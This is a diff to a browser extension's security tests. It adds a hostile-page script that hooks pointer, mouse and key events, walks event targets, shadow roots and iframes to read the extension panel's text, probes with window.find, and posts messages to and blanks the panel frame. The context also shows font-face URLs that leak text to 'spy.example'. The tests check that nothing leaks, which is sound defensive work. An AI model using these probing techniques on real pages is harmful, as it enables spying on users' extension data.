@@ -1,7 +1,8 @@
 import { expect } from 'vitest';
 import type { Settings } from '../../../../src/core/settings.ts';
 import { changeSettings } from '../../harness/extension-api.ts';
-import { readPanel, waitForPanel } from '../../harness/panel-view.ts';
+import { messagePattern } from '../../harness/messages.ts';
+import { clickInPanel, readPanel, waitForPanel } from '../../harness/panel-view.ts';
 import { rest } from '../../harness/until.ts';
 import { type HostilePage, html, type Stage, story, unharmed } from '../hostile-page.ts';
 
@@ -49,6 +50,29 @@ const spyingFonts = [...'Qzxj§…→']
         `@font-face{font-family:"${family}";src:url("https://spy.example/${encodeURIComponent(family)}")}`,
     ),
   );
+
+/**
+ * Goes from every event to every node that a browser hands out with it, from there to all that hangs together with it, and into
+ * frames; notes all text and addresses that it reads on the way.
+ */
+const reachIn = `
+  const reached = { read: [], tried: 0, frames: [] }; window.reached = reached;
+  const seen = new Set();
+  const walk = (node) => {
+    if (!node || !node.nodeType || node === document || seen.has(node) || document.documentElement.contains(node) && !node.shadowRoot && node.nodeName !== 'IFRAME') return;
+    seen.add(node); reached.read.push(node.textContent ?? '', node.innerHTML ?? '', node.outerHTML ?? '');
+    if (node.nodeName === 'IFRAME') {
+      reached.frames.push(node); reached.read.push(node.src, String(node.getAttribute('src')));
+      for (const look of [() => node.contentDocument?.body.textContent, () => node.contentWindow.location.href, () => node.contentWindow.document.body.textContent, () => node.contentWindow.name, () => node.contentWindow.frames.length]) try { reached.read.push(String(look())); } catch {}
+    }
+    for (const next of [node.parentNode, node.host, node.getRootNode?.(), ...(node.childNodes ?? [])]) walk(next);
+  };
+  for (const type of ['pointermove', 'pointerrawupdate', 'pointerover', 'pointerout', 'pointerenter', 'pointerleave', 'pointerdown', 'pointerup', 'mousemove', 'mouseover', 'mouseout', 'mouseenter', 'mouseleave', 'mousedown', 'mouseup', 'click', 'wheel', 'keydown', 'keyup', 'focus', 'blur', 'focusin', 'focusout', 'selectionchange', 'contextmenu'])
+    addEventListener(type, (event) => {
+      const events = [event, ...(event.getCoalescedEvents?.() ?? []), ...(event.getPredictedEvents?.() ?? [])];
+      for (const each of events) for (const name of ['target', 'originalTarget', 'explicitOriginalTarget', 'relatedTarget', 'rangeParent', 'srcElement', 'currentTarget', 'fromElement', 'toElement']) { reached.tried++; try { walk(each[name]); } catch {} }
+      walk(document.activeElement);
+    }, true);`;
 
 /** Pages that would like to know what stands in the panel, or what the reader has set. */
 export const readingUs: HostilePage[] = [
@@ -146,6 +170,55 @@ export const readingUs: HostilePage[] = [
       await changeSettings(world, { theme: 'system', textSize: 100, hiddenSites: [], consents: {} });
     },
   },
+  unharmed('follows every event into what is below the pointer and has the focus', reachIn, {
+    async act(stage) {
+      const { world, page } = stage;
+      const secrets = await secretsOf(stage);
+      const { box } = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
+      for (const y of [30, 90, 200, 320, 440, 560])
+        await page.mouse.move(box.x + box.width / 2, y, { steps: 5 });
+      await page.mouse.wheel({ deltaY: 80 });
+      await clickInPanel(world, page, messagePattern('tab_sources'));
+      await clickInPanel(world, page, messagePattern('tab_topics'));
+      for (const key of ['Tab', 'Tab', 'ArrowDown', 'a'] as const) await page.keyboard.press(key);
+      await page.mouse.move(box.x - 200, 300, { steps: 4 });
+      await rest(200);
+      const { read, tried } = (await page.evaluate('reached')) as { read: string[]; tried: number };
+      expect(tried).toBeGreaterThan(10);
+      expect(secrets.length).toBeGreaterThan(3);
+      const all = read.join('\n');
+      expect(secrets.filter((line) => all.includes(line))).toEqual([]);
+      expect(all).not.toMatch(/-extension:/);
+      // Asked for a text that it knows, a window with a frame of others answers no, or with an error.
+      const found = await page.evaluate((lines) => {
+        const { find } = window as unknown as { find(text: string, ...how: boolean[]): boolean };
+        const ask = (line: string) => {
+          try {
+            return find.call(window, line, false, false, true, false, true);
+          } catch {
+            return false;
+          }
+        };
+        return lines.filter(ask);
+      }, secrets);
+      expect(found).toEqual([]);
+    },
+  }),
+  unharmed('empties our frame and speaks to it', reachIn, {
+    panel: 'any',
+    async act({ world, page }) {
+      const { box } = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
+      for (let x = box.x - 60; x < box.x + 60; x += 8) await page.mouse.move(x, 400);
+      await page.evaluate(`for (const frame of reached.frames) {
+        for (const message of [{ secret: '' }, { secret: '1-2-3-4' }, { place: null }, { facts: { title: 'x' } }])
+          frame.contentWindow.postMessage(message, '*', [new MessageChannel().port2]);
+        try { frame.contentWindow.location = 'about:blank'; } catch {}
+      }`);
+      await rest(600);
+      const { read } = (await page.evaluate('reached')) as { read: string[] };
+      expect(read.join('\n')).not.toMatch(/-extension:/);
+    },
+  }),
   unharmed('sets the variables of our style sheets', '', {
     body: () =>
       html({
